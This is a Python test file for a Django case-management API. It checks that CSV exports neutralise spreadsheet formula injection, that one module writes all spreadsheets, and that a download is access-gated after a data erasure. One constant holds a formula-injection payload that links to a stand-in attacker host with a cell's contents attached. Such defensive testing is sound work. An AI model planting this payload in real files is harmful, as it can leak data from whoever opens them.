"""Issue 10, safe outputs: every CSV and XLSX the system writes carries typed text as
text, never a formula that runs when the file is opened (CSV/formula injection)."""

import csv
import io
import pathlib
import re
import zipfile

import pytest

from tests.api.steps import ok, refused, sign, step
from tests.api.test_records_api import register

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
ROOT = pathlib.Path(__file__).resolve().parents[2]


def test_a_rejection_reason_typed_like_a_formula_is_text_in_the_dossier_csv(people, api):
    """R10.05: the event manifest `02-案件记录.csv` of the archived dossier writes the
    head's reason with a leading apostrophe, as the case exports do."""
    office, head = api(people.office), api(people.head)
    case = register(office)
    sign(head, case["id"])
    step(head, case["id"], "reject", {"reason": FORMULA})
    sign(office, case["id"])

    dossier = zipfile.ZipFile(io.BytesIO(ok(office.get(f"/api/cases/{case['id']}/dossier/"))
                                         .content))
    [manifest] = [n for n in dossier.namelist() if n.endswith("案件记录.csv")]
    rows = list(csv.reader(io.StringIO(dossier.read(manifest).decode("utf-8-sig"))))
    reasons = [row[rows[0].index("理由")] for row in rows[1:]]
    assert "'" + FORMULA in reasons
    assert not [r for r in reasons if r.startswith("=")]


def test_every_csv_and_xlsx_is_written_by_the_formula_safe_module():
    """Nothing in caseflow/ or api/ writes a CSV or saves a workbook but
    caseflow/spreadsheets.py."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.save\(\s*buffer|Workbook\(\)\.save|"
                         r"from csv import .*writer")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("caseflow", "api") for path in (ROOT / folder).rglob("*.py")
        if path.name != "spreadsheets.py" or path.parent.name != "caseflow"
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_x8_an_erased_persons_notice_downloads_only_for_the_office(people, api):
    """X8, X12 over HTTP: the notice download is gated in the domain after an erasure."""
    office, head = api(people.office), api(people.head)
    case = register(office)
    sign(head, case["id"])
    detail = step(head, case["id"], "reject", {"reason": "不属于本机构核查工作范围"})
    [notice] = detail["notices"]
    url = f"/api/cases/{case['id']}/notices/{notice['id']}/file/"
    assert ok(head.get(url))["Content-Type"] == "application/pdf"
    sign(office, case["id"])
    ok(office.post(f"/api/cases/{case['id']}/parties/{detail['case']['submitter']}/erase/",
                   {"reason": "依法删除请求"}, format="json"))

    refused(head.get(url), 403, rule="X8")
    assert ok(office.get(url)).getvalue().startswith(b"%PDF")
